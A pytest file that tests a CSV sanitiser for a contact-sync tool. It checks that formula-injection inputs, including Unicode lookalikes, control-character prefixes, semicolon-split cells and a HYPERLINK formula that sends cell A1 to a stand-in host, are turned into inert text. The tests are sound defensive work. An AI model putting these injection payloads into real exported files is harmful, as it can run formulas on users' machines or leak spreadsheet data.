"""A file for a spreadsheet never holds a formula, whoever wrote what stands in it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from contactsync.domain.cells import BOM, MOST, cell, line


@pytest.mark.parametrize(
    "said",
    [
        "=1+1",
        "+49 171",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\ufe661",
        "\ufe621",
        "\u200b=1",
        "\ufeff=1",
        "\x00=1",
        "\u00a0=1",
        '=HYPERLINK("http://x.example?"&A1,"Click")',
    ],
)
def test_what_a_spreadsheet_would_run_becomes_text(said):
    assert cell(said)[0] == "'"


@pytest.mark.parametrize(
    "said", ["Berlin;=1+1", 'x";=1', "x; ;\t=1", "x;;=1", 'x"=1', "x|@SUM(A1)", "x,-1", "x;\uff1d1"]
)
def test_nor_does_it_where_semicolons_part_the_cells(said):
    """Excel in German, French and many others reads the same file so."""
    for row in csv.reader(io.StringIO(line(["Ada", said])), delimiter=";"):
        assert not [
            part for part in row if part.strip().strip("'\"")[:1] in tuple("=+-@\uff1d") and part.strip()[:1] != "'"
        ]


def test_other_text_stays_as_it_is():
    for said in ("Zoë Müller", "a-b", "1+1", "ada@engines.example", "Rock & Roll", "50 %", "O'Brien", "李明", ""):
        assert cell(said) == said


def test_numbers_times_and_nothing():
    at = datetime(2026, 11, 24, 9, 0, 1, 500, tzinfo=UTC)
    assert [cell(one) for one in (17, -3, at, None)] == ["17", "-3", "2026-11-24 09:00:01", ""]


def test_a_line_reads_back_as_its_cells():
    cells = ["Ada", 'said "hi", twice', "a\r\nb", "c\u2028d", 17]
    (row,) = csv.reader(io.StringIO(line(cells)))
    assert row == ["Ada", 'said "hi", twice', "a  b", "c d", "17"]
    assert line(["x"]).endswith("\r\n")


def test_half_characters_and_endless_text_do_no_harm():
    assert cell("a\ud800b") == "ab"
    assert len(cell("x" * 1_000_000)) == MOST
    assert (BOM + line(["Zoë"])).encode("utf-8")[:3] == b"\xef\xbb\xbf"
